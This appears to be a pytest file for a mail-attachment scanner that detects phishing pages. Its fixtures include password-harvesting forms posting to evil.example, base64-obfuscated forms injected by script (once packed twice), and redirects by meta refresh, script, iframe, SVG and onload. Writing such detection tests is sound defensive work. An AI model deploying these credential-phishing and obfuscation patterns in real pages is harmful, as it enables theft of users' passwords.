"""Pages are read as a browser would find them, what their scripts hold included."""

from __future__ import annotations

from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firstsight.mail.inside import TRAITS, File, look_inside
from firstsight.mail.inside.markup import MAX_FILES, data_files, open_markup

PNG = b64encode(b"\x89PNG\r\n\x1a\n" + bytes(80)).decode()


def page(markup: str | bytes, kind: str = "text/html") -> File:
    return File("page.html", kind, kind, markup.encode() if isinstance(markup, str) else markup)


def test_a_form_with_a_password_is_told_and_where_it_sends() -> None:
    inside = open_markup.open(
        page('<title>Mail</title><form action="https://evil.example/p"><input type=PASSWORD></form>')
    )
    assert inside.traits == ("form", "password-field")
    assert ("https://evil.example/p", "", "attachment") in inside.links
    assert "Mail" in inside.text


def test_a_form_that_only_a_script_puts_there_is_found() -> None:
    packed = b64encode(b'<form action="https://evil.example/p"><input type=password>').decode()
    inside = open_markup.open(page(f'<script>document.write(atob("{packed}"))</script>'))
    assert {"script", "script-assembly", "assembled-form", "password-field"} <= set(inside.traits)
    assert inside.links == (("https://evil.example/p", "", "attachment"),)


def test_a_form_packed_twice_is_found() -> None:
    inner = b64encode(b'<form action="https://evil.example/2"><input type=password>').decode()
    outer = b64encode(f'<script>document.write(atob("{inner}"))</script>'.encode()).decode()
    inside = open_markup.open(page(f'<script>document.write(atob("{outer}"))</script>'))
    assert ("https://evil.example/2", "", "attachment") in inside.links


@pytest.mark.parametrize(
    ("markup", "kind", "trait", "link"),
    [
        ('<meta http-equiv="Refresh" content="0; url=https://evil.example/r">', "text/html", "redirect",
         "https://evil.example/r"),
        ("<script>location.replace('https://evil.example/l')</script>", "text/html", "redirect",
         "https://evil.example/l"),
        ('<iframe src="https://evil.example/f"></iframe>', "text/html", "frame", "https://evil.example/f"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/s"</script></svg>',
         "image/svg+xml", "svg-script", "https://evil.example/s"),
        ('<body onload="location=\'https://evil.example/o\'">', "text/html", "", "https://evil.example/o"),
    ],
)  # fmt: skip
def test_where_a_page_sends_its_reader_is_told(markup: str, kind: str, trait: str, link: str) -> None:
    inside = open_markup.open(page(markup, kind))
    assert not trait or trait in inside.traits
    assert link in [href for href, _, _ in inside.links]


def test_a_report_of_tables_has_no_traits() -> None:
    inside = open_markup.open(page("<table><tr><td>coverage</td><td>93 %</td></tr></table>"))
    assert inside.traits == ()
    assert "coverage" in inside.text


def test_pictures_in_the_markup_are_handed_on() -> None:
    markup = f'<img src="data:image/png;base64,{PNG}">' * 9
    assert [file.detected for file in data_files(markup)] == ["image/png"] * MAX_FILES
    assert data_files("<img src='data:image/png;base64,!!'>") == ()


@given(st.binary(max_size=400), st.sampled_from(["text/html", "image/svg+xml"]))
def test_any_octets_give_an_answer_in_known_words(octets: bytes, kind: str) -> None:
    assert set(look_inside(page(octets, kind)).traits) <= set(TRAITS)
